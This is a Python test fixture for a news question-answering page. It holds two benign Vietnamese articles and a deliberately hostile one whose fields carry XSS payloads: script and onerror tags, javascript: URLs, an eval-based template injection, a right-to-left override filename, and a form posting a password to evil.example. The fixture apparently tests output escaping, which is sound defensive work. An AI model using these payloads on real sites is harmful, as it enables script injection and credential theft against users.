"""A small newspaper of our own and a library over it that knows its few answers: what the page is tested with.

It is no stand-in for the engine's judgement, only for its face: `articles`, `ask`.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from datetime import date, datetime

from index import Article, Passage
from index.passage_index import Only
from qa.explain import ExplainedHit, ExplainedSentence, Explanation, Matched, Place
from qa.index_version import IndexVersion
from qa.question import QuestionError, parse_question
from qa.types import Answer, Citation, Hit, Searched

FERRY = Article(
    article_id="pha-rung",
    path="pha-rung.txt",
    title="Phà Rừng ngừng chạy sau khi cầu thông xe",
    outlet="Báo Cửa Biển",
    author="Minh Hà",
    published=datetime(2025, 3, 4, 9, 30),
    url="https://example.org/pha-rung",
    text=(
        "Người dân hai bờ sông Bạch Đằng đã quen với tiếng còi phà từ nhiều chục năm nay.\n"
        "Bến phà mở cửa từ năm giờ sáng. Chuyến phà cuối cùng rời bến lúc 22 giờ ngày 3/3/2025. "
        "Hơn hai trăm hành khách đã đứng trên boong để tiễn nó.\n"
        "Ông Vũ Văn Lái, thuyền trưởng, nói: “Tôi đã qua sông này hơn bốn mươi nghìn lượt”."
    ),
)
MARKET = Article(
    article_id="cho-hoa",
    path="cho-hoa.txt",
    author="P.V",
    text=(
        "Chợ hoa Hàng Lược năm nay họp sớm hơn mọi năm một tuần, từ ngày 20 tháng Chạp.\n"
        "Ban quản lý cho biết có 187 gian hàng, tăng 12 gian so với năm ngoái."
    ),
)
VERSION = IndexVersion("4d88fabb37e64b58", date(2026, 3, 1))
# The framework's page templates evaluate this: a script without one sign that they escape.
EVALUATED = "${eval(String.fromCharCode(" + ",".join(str(ord(sign)) for sign in "window.hacked=1") + "))}"
HOSTILE = Article(
    article_id='ác/ý "><script>',
    path="ac-y.txt",
    title='<img src=x onerror="window.hacked=1"> **đậm** ' + EVALUATED,
    outlet="[bấm đây](javascript:window.hacked=3)",
    author="\u202egpj.exe",
    published=datetime(2024, 1, 2),
    url="javascript:window.hacked=4",
    text=(
        f"# Không phải đề mục {EVALUATED} `{EVALUATED}` {{{{constructor}}}} \\u0041\n"
        "<img src=x onerror=window.hacked=7><style>body{display:none}</style> **không đậm** "
        "[không phải liên kết](https://evil.example/) https://evil.example/x.png $$x^2$$ \u202eđảo ngược\n"
        "<form action=https://evil.example><input name=password></form><script>window.hacked=8</script>"
    ),
)


def hit(article: Article, rank: int = 1) -> Hit:
    """The whole article as one passage."""
    passage = Passage(article, 0, len(article.text))
    return Hit(passage, article, rank, 1 / rank)


def citation(article: Article, quote: str) -> Citation:
    start = article.text.index(quote)
    return Citation(article, start, start + len(quote), quote, 0.9)


def answer(question: str, citations: tuple[Citation, ...], hits: tuple[Hit, ...], searched: Searched) -> Answer:
    found = bool(citations)
    query = replace(parse_question("Phà ngừng chạy khi nào?"), text=question)
    return Answer(query, citations, hits, 0.9 if found else 0.1, found, searched)


@dataclass(frozen=True)
class Newsstand:
    """Answers by a word of the question; knows when it does not know."""

    articles: Mapping[str, Article] = field(
        default_factory=lambda: {article.article_id: article for article in (FERRY, MARKET, HOSTILE)}
    )

    formerly: Mapping[str, Article] = field(default_factory=dict)
    version: IndexVersion | None = VERSION

    def ask(self, text: str, k: int = 5, only: Only | None = None) -> Answer:
        if not any(letter.isalpha() for letter in text):
            raise QuestionError("empty", "Xin gõ một câu hỏi.")
        if len(text) > 2_000:
            raise QuestionError("too_long", "Câu hỏi dài quá 2.000 ký tự.")
        if "hỏng" in text:
            raise RuntimeError("/secret/path went missing")
        taken = {name: article for name, article in self.articles.items() if only is None or only(article)}
        days = [article.published.date() for article in taken.values() if article.published]
        searched = Searched(len(taken), min(days, default=None), max(days, default=None))
        quotes = {
            "phà": (citation(FERRY, "Chuyến phà cuối cùng rời bến lúc 22 giờ ngày 3/3/2025."),),
            "gian hàng": (
                citation(MARKET, MARKET.text.split("\n")[1]),
                citation(FERRY, "Bến phà mở cửa từ năm giờ sáng."),
            ),
            "ác ý": (
                citation(HOSTILE, HOSTILE.text.split("\n")[1]),
                citation(HOSTILE, HOSTILE.text.split("\n")[0]),
            ),
        }
        known = next((quotes[word] for word in quotes if word in text), ())
        found = tuple(each for each in known if each.article.article_id in taken)
        order = list(dict.fromkeys([*(c.article.article_id for c in found), *taken]))
        hits = tuple(hit(self.articles[name], rank) for rank, name in enumerate(order[:k], 1))
        return answer(text, found, hits, searched)

    def names_in(self, text: str) -> tuple[str, ...]:
        parse_question(text)
        return tuple(name for name in ("Bạch Đằng", "Phà Rừng", "Hàng Lược") if name in text)

    def explain(self, text: str, k: int = 5, only: Only | None = None, as_typed: bool = False) -> Explanation:
        found = self.ask(text, k, only)
        if "Haiphong" in text and not as_typed:
            found = replace(found, question=replace(found.question, replaced=(("Haiphong", "Hải Phòng"),)))
        words = Matched(("phà",), (), (f"{text[:40]}",))
        hits = tuple(ExplainedHit(hit, (Place("words", hit.rank, 1.0),), words, "share") for hit in found.hits)
        sentences = tuple(
            ExplainedSentence(c.article, c.start, c.end, c.quote, (), 1.0, True, words, None) for c in found.citations
        )
        return Explanation(found, hits, sentences, 0.5)
